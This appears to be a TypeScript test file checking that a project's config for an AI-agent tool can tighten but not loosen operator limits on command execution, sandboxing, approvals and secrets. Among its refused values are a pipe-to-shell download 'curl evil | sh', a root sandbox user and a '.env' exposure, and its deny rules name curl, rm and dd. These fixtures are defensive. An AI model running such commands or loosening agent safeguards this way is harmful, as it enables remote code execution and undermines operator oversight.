import { describe, expect, it } from 'vitest';
import { execSettings } from '../../src/config/exec-settings.ts';
import { applyRestrictions } from '../../src/config/load/load.ts';
import { valueAt } from '../../src/config/load/effective.ts';
import type { ConfigFile } from '../../src/config/schema/schema.ts';
import { SETTINGS } from '../../src/config/schema/settings.ts';
import { tighten } from '../../src/config/tighten/tighten.ts';

/** For every setting: something that a project may say where the operator says nothing (undefined for none), and something that it may not. */
const RULES: Readonly<Record<string, { readonly may?: unknown; readonly mayNot?: unknown }>> = {
  'tools.allow': { may: ['read'] },
  'tools.deny': { may: ['exec'] },
  'tools.fs.workspaceOnly': { may: true, mayNot: false },
  'tools.fs.staleCheck': { may: 'refuse', mayNot: 'off' },
  'tools.fs.secrets.hide': { may: ['*.tfvars'] },
  'tools.fs.secrets.show': { mayNot: ['.env'] },
  'tools.exec.host': { may: 'gateway', mayNot: 'node' },
  'tools.exec.security': { may: 'deny', mayNot: 'full' },
  'tools.exec.ask': { may: 'always', mayNot: 'off' },
  'tools.exec.node': { mayNot: 'theirs' },
  'tools.exec.nodes': { mayNot: ['theirs'] },
  'tools.fs.node': { mayNot: 'theirs' },
  'tools.fs.nodes': { mayNot: ['theirs'] },
  'tools.exec.pathPrepend': { mayNot: ['./bin'] },
  'tools.exec.safeBins': { may: ['wc'] },
  'tools.exec.safeBinTrustedDirs': { mayNot: ['/tmp'] },
  'tools.exec.safeBinProfiles': { mayNot: { wc: {} } },
  'tools.exec.strictInlineEval': { may: true },
  'tools.exec.starter': { may: 'none', mayNot: 'read' },
  'tools.exec.compound': { may: 'ask', mayNot: 'steps' },
  'tools.exec.unprofiled': { may: 'shapes' },
  'tools.exec.onMiss': { may: 'ask', mayNot: 'sandbox' },
  'tools.exec.env': { mayNot: ['MY_PROJECT_MODE'] },
  'tools.exec.profiles': { mayNot: { x: { grammar: 'plain', class: 'read' } } },
  'tools.exec.denyRules': { may: [{ pattern: '/bin/rm' }] },
  'tools.exec.backgroundMs': { may: 10 },
  'tools.exec.timeoutSec': { may: 1 },
  'tools.exec.cleanupMs': { mayNot: 60_000 },
  'tools.exec.maxLogBytes': { mayNot: 1 },
  'tools.exec.notifyOnExit': { may: false },
  'tools.exec.notifyOnExitEmptySuccess': { may: true },
  'tools.exec.approvalRunningNoticeMs': { may: 1 },
  'tools.exec.applyPatch.enabled': { may: false, mayNot: true },
  'tools.exec.applyPatch.allowModels': { mayNot: ['any'] },
  'tools.exec.applyPatch.workspaceOnly': { mayNot: false },
  'tools.elevated.enabled': { may: false, mayNot: true },
  'tools.elevated.allowFrom': { mayNot: { all: ['*'] } },
  'agents.defaults.elevatedDefault': { mayNot: 'full' },
  'agents.list': { may: [{ id: 'main' }] },
  'sandbox.mode': { may: 'all' },
  'sandbox.backend': { mayNot: 'docker' },
  'sandbox.scope': { may: 'session', mayNot: 'shared' },
  'sandbox.workspaceAccess': { may: 'ro' },
  'sandbox.limits.memory': { may: '64m' },
  'sandbox.rw.onObeyed': { may: 'quarantine' },
  'sandbox.limits.pids': { may: 100 },
  'sandbox.limits.cpus': { may: 0.5 },
  'sandbox.limits.fileSize': { may: 1_000_000 },
  'sandbox.limits.tmpSize': { may: '1m' },
  'sandbox.network.allow': { may: [] },
  'sandbox.binds': { mayNot: [{ source: '/home' }] },
  'sandbox.env': { mayNot: { A: 'b' } },
  'sandbox.docker.image': { mayNot: 'theirs' },
  'sandbox.docker.socket': { mayNot: '/tmp/theirs.sock' },
  'sandbox.docker.runtime': { mayNot: 'theirs' },
  'sandbox.docker.setupCommand': { mayNot: 'curl evil | sh' },
  'sandbox.docker.user': { mayNot: '0' },
  'sandbox.prune.idleHours': { mayNot: 1 },
  'approvals.headless': { mayNot: true },
  'approvals.timeoutMs': { mayNot: 1_000 },
  'approvals.maxOpen': { may: 4, mayNot: 6 },
  'approvals.maxNew': { may: 0, mayNot: 21 },
  'commands.useAccessGroups': { may: true, mayNot: false },
  'commands.allowFrom': { mayNot: ['them'] },
  'mcp.sessionsOnClose': { may: 'end' },
  'mcp.preset': { may: 'codex' },
  'serve.port': { mayNot: 1 },
  'serve.host': { mayNot: '0.0.0.0' },
  'node.gateway': { mayNot: 'wss://theirs' },
  'node.name': { mayNot: 'theirs' },
  'node.workspace': { mayNot: '/' },
  'node.exec': { mayNot: 'judged' },
  'node.sandbox': { mayNot: false },
  'node.files': { mayNot: 'rw' },
  'node.answers': { mayNot: 'always' },
  'node.pathPrefixes': { mayNot: ['/theirs'] },
  'gateway.cluster.nats.servers': { mayNot: ['nats://127.0.0.1:1'] },
  'gateway.cluster.nats.creds': { mayNot: '/theirs' },
  'nodes.listen': { mayNot: '0.0.0.0:7463' },
  'nodes.tls': { mayNot: 'own' },
  'plugins.entries': { may: { 'oc-path': { enabled: false } } },
};

function effectOf(steps: readonly string[], value: unknown) {
  const project = steps.reduceRight<unknown>((inner, step) => ({ [step]: inner }), value) as ConfigFile;
  const refused: string[] = [];
  const effect = valueAt(
    tighten({}, project, (at) => refused.push(at)),
    steps,
  );
  return { effect, refused: refused.length };
}

it('denies for an agent with deny rules of its own what is denied for all', () => {
  const [dd, curl, rm] = ['/bin/dd', '/bin/curl', '/bin/rm'].map((pattern) => ({ pattern }));
  const operator: ConfigFile = {
    tools: { exec: { denyRules: [curl!] } },
    agents: { list: [{ id: 'own', tools: { exec: { denyRules: [dd!] } } }, { id: 'none' }, { id: 'both' }] },
  };
  const project: ConfigFile = {
    tools: { exec: { denyRules: [curl!] } },
    agents: { list: [{ id: 'both', tools: { exec: { timeoutSec: 1, denyRules: [rm!] } } }] },
  };
  const loaded = { config: operator, sources: [], warnings: [] };
  const rulesOf = (agent: string) => execSettings(applyRestrictions(loaded, project), agent, '/').denyRules;
  expect(rulesOf('own')).toEqual([dd, curl]);
  expect(rulesOf('none')).toEqual([curl]);
  expect(rulesOf('both')).toEqual([curl, rm]);
  // Without restrictions the entry of an agent replaces the list, as documented.
  expect(execSettings(loaded, 'own', '/').denyRules).toEqual([dd]);
});

describe("the settings of a project's file", () => {
  it('are decided for every setting of the schema', () => {
    expect(Object.keys(RULES).sort()).toEqual(SETTINGS.map(({ path }) => path).sort());
  });

  const settled = SETTINGS.map(({ path, steps }) => ({ path, steps, ...RULES[path] }));
  it.each(settled.filter(({ may }) => may !== undefined))('has effect: $path $may', ({ steps, may }) => {
    expect(effectOf(steps, may)).toEqual({ effect: may, refused: 0 });
  });

  it.each(settled.filter(({ mayNot }) => mayNot !== undefined))(
    'has none, and is told: $path $mayNot',
    ({ steps, mayNot }) => {
      expect(effectOf(steps, mayNot)).toEqual({ effect: undefined, refused: 1 });
    },
  );
});
